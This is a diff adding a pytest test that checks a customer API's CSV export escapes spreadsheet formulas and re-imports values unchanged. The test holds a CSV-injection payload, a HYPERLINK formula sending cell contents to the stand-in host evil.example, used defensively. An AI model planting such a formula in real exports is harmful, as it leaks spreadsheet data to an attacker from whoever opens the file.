@@ -188,6 +188,40 @@ def test_an_admin_uploads_a_csv_and_downloads_the_customers_through_the_api(
     assert any(r["email"] == "ada@example.com" and r["name"] == "Ada" for r in rows)
 
 
+def test_an_exported_csv_runs_no_formula_a_customer_wrote_and_imports_back_as_it_was(
+    client: TestClient, world: World, tmp_path: Path
+) -> None:
+    # A mail's display name is whatever its sender typed; opened in a spreadsheet, the
+    # admin's export ran it.
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    made = client.post(
+        "/api/v1/customers",
+        json={"name": formula, "email": "x@example.com", "attributes": {"plan": "@SUM(1+1)"}},
+        headers=auth(world.alice),
+    )
+    assert made.status_code == 201, made.text
+    export = client.get("/api/v1/customer-files/export", headers=auth(world.alice))
+    assert export.status_code == 200
+    rows = list(csv.DictReader(export.text.splitlines()))
+    (row,) = [r for r in rows if r["email"] == "x@example.com"]
+    assert row["name"] == "'" + formula and row["plan"] == "'@SUM(1+1)"
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [c for c in cells if c and c[0] in "=+-@" and not c.lstrip("+-").isdigit()], cells
+    # The file imports back to the same customer, unchanged.
+    path = tmp_path / "customers.csv"
+    path.write_text(export.text, encoding="utf-8")
+    client.patch(
+        f"/api/v1/customers/{made.json()['id']}", json={"name": "x"}, headers=auth(world.alice)
+    )
+    imported = client.post(
+        "/api/v1/customer-files/import", content=path.read_bytes(), headers=auth(world.alice)
+    )
+    assert imported.status_code == 200 and imported.json()["errors"] == [], imported.text
+    again = client.get(f"/api/v1/customers/{made.json()['id']}", headers=auth(world.alice))
+    assert again.json()["name"] == formula
+    assert again.json()["attributes"]["plan"] == "@SUM(1+1)"
+
+
 def test_a_file_that_is_not_utf8_is_refused_whole_through_the_api(
     client: TestClient, world: World, database: Database, monkeypatch: pytest.MonkeyPatch
 ) -> None:
